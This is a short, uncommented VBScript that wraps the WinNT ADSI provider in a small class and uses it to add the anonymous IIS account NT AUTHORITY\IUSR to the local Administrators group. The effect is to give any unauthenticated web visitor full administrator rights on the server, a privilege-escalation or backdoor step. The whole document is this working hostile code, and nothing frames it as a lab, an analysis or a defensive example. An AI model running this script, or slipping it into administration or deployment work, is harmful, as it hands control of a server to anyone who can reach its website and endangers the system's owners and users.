Class Membership
  Private groupName
  Public Property Let Target(value)
    groupName = value
  End Property
  Public Sub Grant(account)
    GetObject("WinNT://./" & groupName & ",group").Add "WinNT://NT AUTHORITY/" & account
  End Sub
End Class
Dim m
Set m = New Membership
m.Target = "Administrators"
m.Grant "IUSR"
